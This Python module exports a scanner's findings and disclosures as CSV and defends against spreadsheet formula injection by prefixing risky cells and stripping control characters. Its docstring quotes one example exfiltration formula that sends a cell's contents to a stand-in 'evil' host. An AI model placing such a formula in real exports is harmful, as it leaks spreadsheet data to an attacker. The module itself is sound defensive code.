"""findings.csv and disclosures.csv: the result as spreadsheet rows, safe to open in Excel.

Monitoring bodies and assessors sort and filter verdicts in a spreadsheet. Every text in these
files can come from the scanned site (snippets, URLs, disclosed numbers, messages quoting the
page), and a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage
return as a formula (OWASP "CSV Injection"): `=HYPERLINK("http://evil/?"&A1,"click")` would leak
the sheet. So every text cell that starts with such a character — after any leading whitespace
or zero-width characters (an importer may trim them), and in its full-width form (Excel folds
`＝＋－＠` to ASCII) — is prefixed with a single quote, which spreadsheets show as text and do
not display. Control characters other than tab and newline are dropped. Cells are bounded
(snippets already are; messages and URLs are cut at `MAX_CELL`).

Written as UTF-8 with a byte-order mark (Excel reads Chinese correctly only with one), quoted per
RFC 4180 by the csv module, `\\r\\n` line ends. A pure function of ScanResult, like the others.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence

from ecq_scan.models import ScanResult

FINDINGS_CSV = "findings.csv"
DISCLOSURES_CSV = "disclosures.csv"
#: characters a spreadsheet reads as the start of a formula (ASCII and full-width forms)
FORMULA_TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
#: a cell longer than this is cut (Excel's own limit is 32,767 characters)
MAX_CELL = 2000
_CONTROL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
#: what may precede a formula trigger and still let a spreadsheet (or its importer) see it
_LEADING = re.compile(r"[\s\u200b-\u200d\u2060\ufeff]*")

FINDING_COLUMNS = (
    "check_id",
    "outcome",
    "clauses",
    "indicators",
    "title",
    "message",
    "page",
    "evidence_url",
    "locator",
    "snippet",
    "screenshot",
    "pages_searched",
)
DISCLOSURE_COLUMNS = ("key", "value", "valid", "url", "locator", "snippet", "note")


def safe_cell(value: object) -> str:
    """One cell's text: control characters dropped, bounded, and never read as a formula."""
    if value is None:
        return ""
    text = _CONTROL.sub("", str(value))
    if len(text) > MAX_CELL:
        text = text[: MAX_CELL - 1] + "…"
    lead = _LEADING.match(text)
    first = text[lead.end() if lead else 0 :][:1]
    if first in FORMULA_TRIGGERS or text[:1] in FORMULA_TRIGGERS:
        return "'" + text
    return text


def _csv(columns: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(columns)
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return "\ufeff" + buffer.getvalue()


def render_findings_csv(result: ScanResult, lang: str = "zh") -> str:
    """One row per finding and evidence item (a finding without evidence is one row)."""
    metas = {m.id: m for m in result.checks}

    def rows() -> Iterable[list[object]]:
        for f in result.findings:
            meta = metas.get(f.check_id)
            title = ""
            if meta is not None:
                text = meta.title_pass if f.outcome.value == "pass" else meta.title_fail
                title = text.get(lang)
            head: list[object] = [
                f.check_id,
                f.outcome.value,
                " ".join(meta.clauses) if meta else "",
                " ".join(map(str, meta.indicators)) if meta else "",
                title,
                f.message.get(lang),
                f.url or "",
            ]
            searched = " ".join(f.pages_searched)
            if not f.evidence:
                yield [*head, "", "", "", "", searched]
            for e in f.evidence:
                yield [*head, e.url, e.locator, e.snippet, e.screenshot, searched]

    return _csv(FINDING_COLUMNS, rows())


def render_disclosures_csv(result: ScanResult) -> str:
    rows = (
        [d.key, d.value, "" if d.valid is None else str(d.valid).lower(), d.url, d.locator,
         d.snippet, d.note]
        for d in result.disclosures
    )  # fmt: skip
    return _csv(DISCLOSURE_COLUMNS, rows)
